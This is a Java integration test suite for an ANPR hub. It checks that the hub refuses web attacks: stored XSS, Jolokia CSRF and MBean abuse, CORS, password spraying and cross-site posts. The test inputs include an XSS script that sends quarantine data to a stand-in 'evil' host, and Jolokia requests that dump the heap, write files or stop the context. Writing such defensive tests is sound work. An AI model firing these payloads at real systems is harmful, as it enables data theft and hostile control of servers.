package uk.anprhub.security;

import com.fasterxml.jackson.databind.JsonNode;
import org.apache.camel.CamelContext;
import org.apache.camel.ServiceStatus;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import uk.anprhub.support.HubIT;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attacks on the web side of a running hub (issue 10, items 2, 3, 9, 11, 12, 13, 14, 19), over real HTTP: stored
 * XSS through the quarantine, Jolokia CSRF/back door/CORS, password guessing, cross-site API requests, an account
 * without roles, audit gaps, session cookie attributes, health details.
 */
class WebSecurityIT extends HubIT {

    private static final String PASSWORD = OPS_PASSWORD; // every test account has it

    @Autowired
    CamelContext camel;

    // --- item 2: stored XSS through the quarantine ---------------------------------------------------------------

    @Test
    void aQuarantinedHtmlPayloadIsADownloadNeverAPageOfTheHub() throws Exception {
        String html = "<html><script>fetch('/api/v1/quarantine').then(r=>r.text()).then(t=>new Image().src='//evil/?'+t)</script></html>";
        HttpResponse<String> sent = post("/ingest/nas-json", "text/html", html.getBytes(StandardCharsets.UTF_8));
        long id = json(sent).get("quarantined").get(0).get("quarantineId").asLong();

        HttpResponse<byte[]> r = HTTP.send(asOps("/api/v1/quarantine/" + id + "/payload?why=XSS+ticket+42").GET().build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(new String(r.body(), StandardCharsets.UTF_8)).isEqualTo(html);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
        assertThat(r.headers().firstValue("Content-Disposition").orElse("")).startsWith("attachment");
        assertThat(r.headers().firstValue("X-Original-Content-Type").orElse("")).startsWith("text/html");
        assertThat(r.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(r.headers().firstValue("Content-Security-Policy").orElse("")).contains("default-src 'none'");
    }

    @Test
    void everyAnswerButHawtiosPageHasNosniffAndAStrictPolicy() throws Exception {
        for (HttpResponse<String> r : List.of(postJson("/ingest/nas-json", "{}"), get("/actuator/health"), get("/api/v1/quarantine"),
                get("/login"), HTTP.send(asOps("/actuator/jolokia/version").GET().build(), HttpResponse.BodyHandlers.ofString()))) {
            assertThat(r.headers().firstValue("X-Content-Type-Options")).as(r.uri().toString()).hasValue("nosniff");
            assertThat(r.headers().firstValue("Content-Security-Policy").orElse("")).as(r.uri().toString())
                    .contains("default-src 'none'").contains("frame-ancestors 'none'");
        }
        HttpResponse<String> hawtio = HTTP.send(asOps("/actuator/hawtio/").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(hawtio.statusCode()).isEqualTo(200);
        assertThat(hawtio.headers().firstValue("Content-Security-Policy").orElse("")).doesNotContain("default-src 'none'");
    }

    // --- item 3: Jolokia ------------------------------------------------------------------------------------------

    @Test
    void aStateChangingJolokiaGetWithTheSessionCookieIsRefused() throws Exception {
        Session s = login("ops");
        String route = routeMBean("delivery-nas").replace("\"", "%22");
        for (String path : List.of("/actuator/jolokia/exec/" + route + "/suspend()", "/actuator/hawtio/jolokia/exec/" + route + "/suspend()",
                "/actuator/jolokia/?p=/exec/" + route + "/suspend()")) {
            HttpResponse<String> r = HTTP.send(s.request(path).GET().build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as(path + " " + r.body()).isEqualTo(405);
        }
        assertThat(camel.getRouteController().getRouteStatus("delivery-nas")).isEqualTo(ServiceStatus.Started);
        // a read by GET still works (Hawtio probes the agent that way)
        HttpResponse<String> probe = HTTP.send(s.request("/actuator/hawtio/jolokia").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(probe.statusCode()).isEqualTo(200);
        assertThat(probe.body()).contains("\"agent\"");
    }

    @Test
    void theOpsRoleCannotDumpTheHeapWriteFilesStopTheContextOrWriteAttributes() throws Exception {
        Path dump = Files.createTempDirectory("anpr-heap").resolve("heap.hprof");
        Path file = Files.createTempDirectory("anpr-file");
        String context = "org.apache.camel:context=" + camel.getManagementName() + ",type=context,name=\\\"" + camel.getName() + "\\\"";
        List<String> attacks = List.of(
                exec("com.sun.management:type=HotSpotDiagnostic", "dumpHeap", "\"" + dump + "\", true"),
                exec(context, "sendStringBody", "\"file:" + file + "?fileName=owned.txt\", \"owned\""),
                exec(context, "stop()", ""),
                exec("java.lang:type=Memory", "gc()", ""),
                "{\"type\":\"write\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":\"Verbose\",\"value\":true}");
        for (String attack : attacks) {
            HttpResponse<String> r = jolokiaPost("/actuator/jolokia", attack, Map.of());
            assertThat(json(r).path("status").asInt()).as(attack + " -> " + r.body()).isEqualTo(403);
        }
        assertThat(dump).doesNotExist();
        assertThat(file.resolve("owned.txt")).doesNotExist();
        assertThat(camel.getStatus()).isEqualTo(ServiceStatus.Started);
        List<Map<String, Object>> rows = jdbc.queryForList("""
                select actor, source, detail->>'operation' as op, detail->>'allowed' as allowed, detail->>'args' as args
                from audit_log where action = 'jolokia.exec' and detail->>'mbean' = 'com.sun.management:type=HotSpotDiagnostic'""");
        assertThat(rows).isNotEmpty();
        assertThat(rows.get(0)).containsEntry("actor", "ops").containsEntry("source", "127.0.0.1").containsEntry("op", "dumpHeap")
                .containsEntry("allowed", "false");
        assertThat((String) rows.get(0).get("args")).contains(dump.toString());
        assertThat(jdbc.queryForObject("select count(*) from audit_log where action = 'jolokia.write'", Integer.class)).isPositive();
    }

    @Test
    void routeSuspendAndResumeByPostWorkAndAreAudited() throws Exception {
        String mbean = routeMBean("delivery-nas").replace("\"", "\\\"");
        try {
            HttpResponse<String> suspend = jolokiaPost("/actuator/jolokia", exec(mbean, "suspend()", ""), Map.of());
            assertThat(json(suspend).path("status").asInt()).as(suspend.body()).isEqualTo(200);
            assertThat(camel.getRouteController().getRouteStatus("delivery-nas")).isEqualTo(ServiceStatus.Suspended);
        } finally {
            HttpResponse<String> resume = jolokiaPost("/actuator/jolokia", exec(mbean, "resume()", ""), Map.of());
            assertThat(json(resume).path("status").asInt()).as(resume.body()).isEqualTo(200);
        }
        assertThat(camel.getRouteController().getRouteStatus("delivery-nas")).isEqualTo(ServiceStatus.Started);
        assertThat(jdbc.queryForObject("""
                select count(*) from audit_log where action = 'jolokia.exec' and actor = 'ops' and source = '127.0.0.1'
                and detail->>'operation' in ('suspend()', 'resume()') and detail->>'allowed' = 'true'
                and detail->>'mbean' like '%delivery-nas%'""", Integer.class)).isGreaterThanOrEqualTo(2);
    }

    @Test
    void jolokiaNeverEchoesAForeignOrigin() throws Exception {
        String evil = "https://evil.example";
        HttpResponse<String> read = jolokiaPost("/actuator/jolokia",
                "{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":\"HeapMemoryUsage\"}", Map.of("Origin", evil));
        assertThat(read.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
        assertThat(read.headers().firstValue("Access-Control-Allow-Credentials")).isEmpty();
        HttpResponse<String> preflight = HTTP.send(asOps("/actuator/jolokia").method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                .header("Origin", evil).header("Access-Control-Request-Method", "POST").build(), HttpResponse.BodyHandlers.ofString());
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
    }

    @Test
    void hawtioStillReadsThroughItsJolokiaPathWithTheSessionAndToken() throws Exception {
        Session s = login("ops");
        HttpResponse<String> r = HTTP.send(s.request("/actuator/hawtio/jolokia").header("X-XSRF-TOKEN", s.xsrf())
                .header("Origin", "http://localhost:" + port).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("[{\"type\":\"read\",\"mbean\":\"java.lang:type=Memory\",\"attribute\":\"HeapMemoryUsage\"},"
                        + "{\"type\":\"list\",\"path\":\"org.apache.camel\"}]")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
        for (JsonNode answer : json(r)) {
            assertThat(answer.path("status").asInt()).as(answer.toString()).isEqualTo(200);
        }
        // Hawtio loads its MBean tree through the RBAC registry when there is one: allowed (read-only introspection)
        HttpResponse<String> tree = HTTP.send(s.request("/actuator/hawtio/jolokia").header("X-XSRF-TOKEN", s.xsrf())
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(
                        exec("hawtio:type=security,name=RBACRegistry", "list()", ""))).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(json(tree).path("status").asInt()).as(tree.body()).isIn(200, 404);
        // without the token (a cross-site form with the session cookie) a POST is refused
        HttpResponse<String> forged = HTTP.send(s.request("/actuator/jolokia").POST(HttpRequest.BodyPublishers.ofString(
                exec(routeMBean("delivery-nas").replace("\"", "\\\""), "suspend()", ""))).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(forged.statusCode()).isEqualTo(403);
        assertThat(camel.getRouteController().getRouteStatus("delivery-nas")).isEqualTo(ServiceStatus.Started);
    }

    // --- item 9: password guessing --------------------------------------------------------------------------------

    @Test
    void guessingAnAccountsPasswordLocksItAndLeavesATrail() throws Exception {
        for (int i = 0; i < 5; i++) {
            assertThat(basic("/api/v1/delivery/targets", "guessed", "guess-" + i).statusCode()).isEqualTo(401);
        }
        HttpResponse<String> locked = basic("/api/v1/delivery/targets", "guessed", PASSWORD);
        assertThat(locked.statusCode()).as("right password while locked").isEqualTo(429);
        assertThat(locked.headers().firstValue("Retry-After")).isPresent();
        assertThat(HTTP.send(asOps("/api/v1/delivery/targets").GET().build(), HttpResponse.BodyHandlers.ofString()).statusCode())
                .as("another account from the same address").isEqualTo(200);
        List<Map<String, Object>> trail = jdbc.queryForList(
                "select source, detail::text as detail from audit_log where action = 'login.failed' and actor = 'guessed'");
        assertThat(trail).hasSizeGreaterThanOrEqualTo(5);
        assertThat(trail).allSatisfy(row -> {
            assertThat(row.get("source")).isEqualTo("127.0.0.1");
            assertThat((String) row.get("detail")).doesNotContain("guess-");
        });
    }

    @Test
    void sprayingManyAccountsFromOneAddressLocksTheAddress() throws Exception {
        InetAddress sprayer = InetAddress.getByName("127.0.0.2");
        for (int i = 0; i < 20; i++) {
            assertThat(rawGet(sprayer, "/api/v1/delivery/targets", "user-" + i, "pw")).startsWith("HTTP/1.1 401");
        }
        assertThat(rawGet(sprayer, "/api/v1/delivery/targets", OPS_USER, PASSWORD)).startsWith("HTTP/1.1 429");
        assertThat(rawGet(InetAddress.getByName("127.0.0.1"), "/api/v1/delivery/targets", OPS_USER, PASSWORD)).startsWith("HTTP/1.1 200");
        assertThat(jdbc.queryForObject("select count(*) from audit_log where action = 'login.failed' and source = '127.0.0.2'",
                Integer.class)).isEqualTo(20);
    }

    // --- item 11: no Basic challenge, CSRF header on the API ------------------------------------------------------

    @Test
    void noAnswerAsksTheBrowserForBasicCredentials() throws Exception {
        for (HttpResponse<String> r : List.of(get("/api/v1/quarantine"), basic("/api/v1/quarantine", OPS_USER, "wrong-password-1"),
                get("/actuator/jolokia/version"), basic("/actuator/jolokia/version", OPS_USER, "wrong-password-2"))) {
            assertThat(r.headers().allValues("WWW-Authenticate")).as(r.uri().toString())
                    .noneMatch(v -> v.regionMatches(true, 0, "Basic", 0, 5));
            assertThat(r.statusCode()).as(r.uri().toString()).isIn(401, 302);
        }
    }

    @Test
    void aCrossSiteFormPostCannotPauseDelivery() throws Exception {
        String basic = Base64.getEncoder().encodeToString((OPS_USER + ":" + PASSWORD).getBytes(StandardCharsets.UTF_8));
        // what a form can send: credentials the browser holds, a form body, no custom header
        HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(uri("/api/v1/delivery/targets/nas/pause"))
                .header("Authorization", "Basic " + basic).header("Content-Type", "application/x-www-form-urlencoded")
                .header("Origin", "https://evil.example").POST(HttpRequest.BodyPublishers.ofString("why=owned+by+evil")).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
        assertThat(json(r).get("error").asText()).isEqualTo("client-header-required");
        assertThat(jdbc.queryForObject("select paused from delivery_target where id = 'nas'", Boolean.class)).isFalse();
    }

    // --- item 12: an account without roles --------------------------------------------------------------------------

    @Test
    void anAccountWithoutRolesReachesNothing() throws Exception {
        for (String path : List.of("/api/v1/quarantine", "/api/v1/delivery/targets", "/actuator/jolokia/version", "/actuator/hawtio/")) {
            assertThat(basic(path, "no-roles", PASSWORD).statusCode()).as(path).isEqualTo(403);
        }
    }

    // --- item 13: audit gaps --------------------------------------------------------------------------------------

    @Test
    void auditedActionsNeedAReasonAndMissingIdsAre404() throws Exception {
        HttpResponse<String> sent = post("/ingest/nas-json", "text/plain", "not json".getBytes(StandardCharsets.UTF_8));
        long id = json(sent).get("quarantined").get(0).get("quarantineId").asLong();
        for (String why : new String[]{null, "", "   ", "abc"}) {
            String q = why == null ? "" : "?why=" + URLEncoder.encode(why, StandardCharsets.UTF_8);
            HttpResponse<String> r = HTTP.send(asOps("/api/v1/quarantine/" + id + "/payload" + q).GET().build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as("why=" + why).isEqualTo(400);
            assertThat(r.body()).contains("why");
        }
        for (String path : List.of("/api/v1/quarantine/reprocess?why=+", "/api/v1/delivery/targets/nas/pause?why=",
                "/api/v1/delivery/replay/dead-letters?why=%20%20", "/api/v1/delivery/replay/range?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z")) {
            HttpResponse<String> r = HTTP.send(asOps(path).POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as(path + " " + r.body()).isEqualTo(400);
        }
        assertThat(jdbc.queryForObject("select paused from delivery_target where id = 'nas'", Boolean.class)).isFalse();
        HttpResponse<String> missing = HTTP.send(asOps("/api/v1/quarantine/999999999/payload?why=investigation+7").GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(missing.statusCode()).isEqualTo(404);
    }

    @Test
    void listingTheQuarantineIsAuditedWithTheSourceAddress() throws Exception {
        int before = jdbc.queryForObject("select count(*) from audit_log where action = 'quarantine.list'", Integer.class);
        assertThat(HTTP.send(asOps("/api/v1/quarantine?limit=5").GET().build(), HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);
        Map<String, Object> row = jdbc.queryForMap(
                "select actor, source from audit_log where action = 'quarantine.list' order by id desc limit 1");
        assertThat(jdbc.queryForObject("select count(*) from audit_log where action = 'quarantine.list'", Integer.class)).isEqualTo(before + 1);
        assertThat(row).containsEntry("actor", "ops").containsEntry("source", "127.0.0.1");
    }

    // --- item 14: session cookie ------------------------------------------------------------------------------------

    @Test
    void theSessionCookieIsSameSiteStrictAndHttpOnly() throws Exception {
        Session s = login("ops");
        assertThat(s.setCookie()).containsIgnoringCase("SameSite=Strict").containsIgnoringCase("HttpOnly");
    }

    // --- item 19: health details ------------------------------------------------------------------------------------

    @Test
    void healthDetailsAreForOpsOnly() throws Exception {
        JsonNode auditor = json(basic("/actuator/health", "auditor", PASSWORD));
        assertThat(auditor.path("components").path("db").has("details")).as(auditor.toString()).isFalse();
        JsonNode ops = json(HTTP.send(asOps("/actuator/health").GET().build(), HttpResponse.BodyHandlers.ofString()));
        assertThat(ops.path("components").path("db").has("details")).as(ops.toString()).isTrue();
    }

    // --- helpers ------------------------------------------------------------------------------------------------------

    private String routeMBean(String routeId) {
        return "org.apache.camel:context=" + camel.getManagementName() + ",type=routes,name=\"" + routeId + "\"";
    }

    /** A Jolokia exec request; {@code mbean} already JSON-escaped. */
    private static String exec(String mbean, String operation, String args) {
        return "{\"type\":\"exec\",\"mbean\":\"" + mbean + "\",\"operation\":\"" + operation + "\",\"arguments\":[" + args + "]}";
    }

    private HttpResponse<String> jolokiaPost(String path, String body, Map<String, String> headers) throws Exception {
        HttpRequest.Builder b = asOps(path).header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body));
        headers.forEach(b::header);
        return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
    }

    private HttpResponse<String> basic(String path, String user, String password) throws Exception {
        String basic = Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
        return HTTP.send(HttpRequest.newBuilder(uri(path)).header("Authorization", "Basic " + basic).timeout(Duration.ofSeconds(30))
                .GET().build(), HttpResponse.BodyHandlers.ofString());
    }

    /** The status line of a GET sent from a given local address (the JDK client cannot choose one). */
    private String rawGet(InetAddress from, String path, String user, String password) throws Exception {
        String basic = Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
        try (Socket socket = new Socket()) {
            socket.bind(new InetSocketAddress(from, 0));
            socket.connect(new InetSocketAddress("127.0.0.1", port), 5000);
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic " + basic + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            return new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.US_ASCII)).readLine();
        }
    }

    /** A browser session after form login: the session cookie and the CSRF token cookie. */
    private record Session(URIBase base, Map<String, String> cookies, String setCookie) {
        HttpRequest.Builder request(String path) {
            StringBuilder c = new StringBuilder();
            cookies.forEach((k, v) -> c.append(c.isEmpty() ? "" : "; ").append(k).append('=').append(v));
            return HttpRequest.newBuilder(base.uri(path)).header("Cookie", c.toString()).timeout(Duration.ofSeconds(30));
        }

        String xsrf() {
            return cookies.get("XSRF-TOKEN");
        }
    }

    private interface URIBase {
        java.net.URI uri(String path);
    }

    private Session login(String user) throws Exception {
        Map<String, String> cookies = new HashMap<>();
        HttpResponse<String> page = get("/login");
        collect(page, cookies);
        String form = "username=" + user + "&password=" + URLEncoder.encode(PASSWORD, StandardCharsets.UTF_8) + "&_csrf=" + cookies.get("XSRF-TOKEN");
        HttpResponse<String> r = HTTP.send(HttpRequest.newBuilder(uri("/login")).header("Content-Type", "application/x-www-form-urlencoded")
                .header("Cookie", "XSRF-TOKEN=" + cookies.get("XSRF-TOKEN") + (cookies.containsKey("JSESSIONID") ? "; JSESSIONID=" + cookies.get("JSESSIONID") : ""))
                .POST(HttpRequest.BodyPublishers.ofString(form)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).as(r.body()).isEqualTo(302);
        assertThat(r.headers().firstValue("Location").orElse("")).doesNotContain("error");
        String session = r.headers().allValues("Set-Cookie").stream().filter(v -> v.startsWith("JSESSIONID=")).findFirst().orElseThrow();
        collect(r, cookies);
        // the token rotates at login: fetch the new one
        HttpResponse<String> after = HTTP.send(HttpRequest.newBuilder(uri("/actuator/jolokia/version"))
                .header("Cookie", "JSESSIONID=" + cookies.get("JSESSIONID")).build(), HttpResponse.BodyHandlers.ofString());
        collect(after, cookies);
        return new Session(this::uri, cookies, session);
    }

    private static void collect(HttpResponse<?> r, Map<String, String> cookies) {
        for (String v : r.headers().allValues("Set-Cookie")) {
            String pair = v.split(";", 2)[0];
            int eq = pair.indexOf('=');
            if (eq > 0 && !pair.substring(eq + 1).isEmpty()) {
                cookies.put(pair.substring(0, eq), pair.substring(eq + 1));
            }
        }
    }
}
